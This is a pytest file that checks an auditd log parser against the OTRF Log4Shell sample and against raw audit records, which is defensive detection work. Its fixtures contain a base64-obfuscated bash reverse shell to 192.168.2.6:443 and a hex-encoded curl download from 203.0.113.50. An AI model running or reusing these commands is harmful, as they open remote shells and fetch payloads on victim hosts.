"""The auditd parser on OTRF's Log4Shell auoms sample and on raw auditd records joined by serial."""

from __future__ import annotations

import json
import random
import zipfile
from collections import Counter
from datetime import UTC, datetime

import pytest

from collectors.base import BadRecord, NotMyFormat
from collectors.parsers.auditd import _QUOTED_KEY, JOIN_WINDOW, AuditdParser, _simple_pairs, split_pairs
from store.event import Event
from tests.collectors.samples import record
from tests.helpers import shared

OTRF_ZIP = "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip"


def otrf_events() -> list[Event]:
    """Every SyslogMessage of the OTRF sample (Azure Log Analytics rows, read from the zip) parsed in order."""
    with zipfile.ZipFile(shared("otrf", OTRF_ZIP)) as archive:
        rows = archive.read(archive.namelist()[0]).decode("utf-8").splitlines()
    parser = AuditdParser()
    events: list[Event] = []
    for index, row in enumerate(rows):
        events.extend(parser.parse(record(json.loads(row)["SyslogMessage"], "otrf:log4shell", str(index))))
    return events


def test_otrf_log4shell_sample_parses_completely_with_outcomes() -> None:
    events = otrf_events()
    assert len(events) == 50
    assert len({e.id for e in events}) == 50
    assert Counter(e.get("event.outcome") for e in events) == {"success": 27, "failure": 23}
    assert {e.get("event.code") for e in events} == {"AUOMS_EXECVE"}
    assert {e.get("host.name") for e in events} == {"UBUNTU5"}


def test_otrf_reverse_shell_exec_maps_exact_fields() -> None:
    [shell] = [e for e in otrf_events() if e.get("event.sequence") == 84143]
    assert shell.timestamp == datetime(2022, 5, 11, 18, 10, 21, 990000, tzinfo=UTC)
    fields = dict(shell.fields)
    fields.pop("event.original")
    assert fields == {
        "event.kind": "event",
        "event.category": ("process",),
        "event.type": ("start",),
        "event.action": "executed",
        "event.code": "AUOMS_EXECVE",
        "event.module": "auditd",
        "event.dataset": "auditd.log",
        "event.sequence": 84143,
        "event.outcome": "success",
        "host.os.type": "linux",
        "host.name": "UBUNTU5",
        "process.pid": 17790,
        "process.parent.pid": 1340,
        "process.name": "bash",
        "process.executable": "/bin/bash",
        "process.working_directory": "/",
        # cmdline quotes the argv without escaping its own quotes; the value must survive whole
        "process.command_line": 'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}'
        '|{base64,-d}|{bash,-i}"',
        "user.id": "1001",
        "user.effective.id": "1001",
        "user.name": "tomcat",
        "related.user": ("tomcat",),
        "file.path": "/bin/bash",
        "labels.audit_key": "auoms,delete",
        "labels.syscall": "execve",
        "message": "audit AUOMS_EXECVE serial 84143 user tomcat exe /bin/bash cmd bash -c "
        '"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}" '
        "path /bin/bash success",
    }


RAW = [
    'type=SYSCALL msg=audit(1795136400.123:4242): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 ppid=812 '
    'pid=913 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="netexec"',
    'type=EXECVE msg=audit(1795136400.123:4242): argc=3 a0="curl" a1="-sO" '
    "a2=687474703A2F2F3230332E302E3131332E35302F78",
    "type=CWD msg=audit(1795136400.123:4242): cwd=2F746D702F6D7920646972",
    'type=PATH msg=audit(1795136400.123:4242): item=0 name="/usr/bin/curl" inode=1234 nametype=NORMAL',
    "type=PROCTITLE msg=audit(1795136400.123:4242): proctitle=6375726C002D734F",
]


def test_raw_records_of_one_serial_share_the_process_context() -> None:
    parser = AuditdParser()
    events = [parser.parse(record(line, "file:/var/log/audit/audit.log", str(i)))[0] for i, line in enumerate(RAW)]
    assert [e.get("event.code") for e in events] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert all(e.get("event.sequence") == 4242 for e in events)
    assert all(e.get("process.pid") == 913 and e.get("process.executable") == "/usr/bin/curl" for e in events)
    assert all(e.get("user.audit.id") == "1000" and e.get("user.id") == "0" for e in events)
    # hex-encoded values are decoded; argv is joined, proctitle's NULs are blanks
    assert events[1].get("process.command_line") == "curl -sO http://203.0.113.50/x"
    assert events[2].get("process.working_directory") == "/tmp/my dir"
    assert events[3].get("file.path") == "/usr/bin/curl"
    assert events[4].get("process.command_line") == "curl -sO"
    assert events[0].get("event.outcome") == "success"
    assert events[0].get("labels.audit_key") == "netexec"


def test_join_is_per_source_and_bounded() -> None:
    parser = AuditdParser()
    parser.parse(record(RAW[0], "host-a"))
    [other] = parser.parse(record(RAW[1], "host-b"))
    assert other.get("process.pid") is None
    for serial in range(JOIN_WINDOW + 1):
        parser.parse(record(f"type=SYSCALL msg=audit(1795136400.000:{9000 + serial}): pid=1 comm=\"x\"", "host-a"))
    [late] = parser.parse(record(RAW[1], "host-a"))
    assert late.get("process.pid") is None  # serial 4242 fell out of the window


def test_login_record_with_address_and_failure() -> None:
    line = (
        "type=USER_LOGIN msg=audit(1795136401.000:77): pid=1500 uid=0 auid=4294967295 ses=4294967295 "
        "msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.50 terminal=sshd res=failed'"
    )
    [event] = AuditdParser().parse(record(line))
    assert event.get("event.category") == ("authentication",)
    assert event.get("event.outcome") == "failure"
    assert event.get("source.ip") == "203.0.113.50"
    assert event.get("user.name") == "root"
    assert event.get("user.audit.id") is None  # 4294967295 is "unset"


def test_split_pairs_keeps_quoted_blanks_and_unquoted_runs() -> None:
    assert split_pairs('a=1 comm="x y=z" proctitle=/bin/java -Dk=v -jar app.jar key=k') == {
        "a": "1", "comm": "x y=z", "proctitle": "/bin/java -Dk=v -jar app.jar", "key": "k",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("line", "error", "reason"),
    [
        ("Nov 20 08:00:00 host sshd[1]: Accepted password", NotMyFormat, "not a Linux audit record"),
        ("type=SYSCALL msg=audit(abc:1): pid=1", BadRecord, "valid 'audit(<epoch>:<serial>):' header"),
        ('type=SYSCALL msg=audit(1.0:1): comm="unterminated', BadRecord, "unterminated quoted value"),
        ("type=SYSCALL msg=audit(1.0:1): pid=12x", BadRecord, "key 'pid': '12x' is not a number"),
        ("type=SYSCALL msg=audit(99999999999999999999.0:1): pid=1", BadRecord, "out of range"),
    ],
)
def test_unusable_lines(line: str, error: type[Exception], reason: str) -> None:
    with pytest.raises(error, match=reason.replace("(", r"\(").replace(")", r"\)")):
        AuditdParser().parse(record(line))


def test_the_fast_path_for_plain_bodies_gives_what_the_marks_give() -> None:
    """Bodies built from tricky keys, values and separators: wherever the fast path answers, it agrees."""
    rnd = random.Random(9)
    keys = ["a", "b", "a1", "_x", "1a", "a-b", "", "pid", "comm"]
    values = ["", "x", "1", '"q"', '""', '"a b"', '"a"b"', "x=y", '"', 'x"', 'a="b"', "c\td", "\u00a0"]
    separators = [" "] * 8 + ["  ", "\t"]
    answered = 0
    for _ in range(20_000):
        body = "".join((rnd.choice(separators) if n else rnd.choice(["", "", " "])) + rnd.choice(keys) + "="
                       + rnd.choice(values) for n in range(rnd.randrange(0, 5)))
        fast = _simple_pairs(body)
        if fast is None:
            continue
        answered += 1
        quoted = {m[1] for m in _QUOTED_KEY.finditer(body)} if '="' in body else set()
        assert fast == (split_pairs(body), quoted), body
    assert answered > 1_000  # the fast path was exercised, not just refused
    plain = 'arch=c000003e syscall=59 success=yes comm="curl" exe="/usr/bin/curl" key="netexec"'
    assert _simple_pairs(plain) == (split_pairs(plain), {"comm", "exe", "key"})
    assert _simple_pairs("proctitle=/usr/bin/java -jar x") is None  # auoms: blanks in an unquoted value
